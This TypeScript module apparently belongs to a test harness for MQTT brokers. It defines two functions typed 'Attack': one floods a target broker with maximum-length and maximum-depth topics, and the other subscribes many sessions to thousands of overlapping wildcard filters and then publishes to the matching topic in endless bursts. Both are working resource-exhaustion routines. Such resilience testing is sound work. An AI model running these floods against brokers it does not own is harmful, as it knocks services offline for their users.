import { publish, subscribe } from '../../support/packets.js';
import { type Attack, clients, deadlineOf, endAll, floodAll } from '../peer.js';

const LEVELS_MAX = 128;
const TOPIC_BYTES_MAX = 65_535;
const BURST = 100;

/** A topic that nobody has used yet, as long or as deep as can be. */
function giantTopic(number: number): string {
  const head = `${number}`;
  if (number % 2 === 0) return head + 'x'.repeat(TOPIC_BYTES_MAX - head.length);
  return `${head}/`.repeat(LEVELS_MAX - 1) + head;
}

/** Topics as long and as deep as can be, each used once: published, subscribed to, and some retained. */
export const giantTopics: Attack = async (target) => {
  const deadline = deadlineOf(target);
  const peers = await clients(target.port, 10);
  let number = 0;
  const packets = await floodAll(peers, deadline, (p) => {
    const topic = giantTopic(number++);
    return p % 2 === 0 ? publish({ topic, payload: 'x' }) : subscribe(1, [topic, 0]);
  });
  return `${packets} packets with giant topics`;
};

/** Filters that all match the one deep topic, by another path each, and publishes to that topic without end. */
export const deepWildcards: Attack = async (target) => {
  const deadline = deadlineOf(target);
  const [sessions, depth] = [20, 14];
  const subscribers = await clients(target.port, sessions);
  await Promise.all(
    subscribers.map(async (peer, s) => {
      for (let from = 0; from < 8000; from += 500) {
        const filters = Array.from(
          { length: 500 },
          (_, i) => [wildcardFilter(from + i + s, depth), 0] as const,
        );
        await peer.send(subscribe(1, ...filters));
      }
    }),
  );
  const publishers = await clients(target.port, 4);
  const topic = Array.from({ length: depth + 1 }, () => 'a').join('/');
  const burst = Buffer.concat(Array.from({ length: BURST }, () => publish({ topic })));
  const bursts = await floodAll(publishers, deadline, () => burst);
  await endAll(subscribers);
  return `${bursts * BURST} publishes past ${2 ** depth} paths of wildcards`;
};

/** The bits of the number say which levels are wildcards. */
function wildcardFilter(number: number, depth: number): string {
  const levels = Array.from({ length: depth }, (_, level) => (((number * 2) >> level) % 2 === 0 ? 'a' : '+'));
  return `${levels.join('/')}/#`;
}
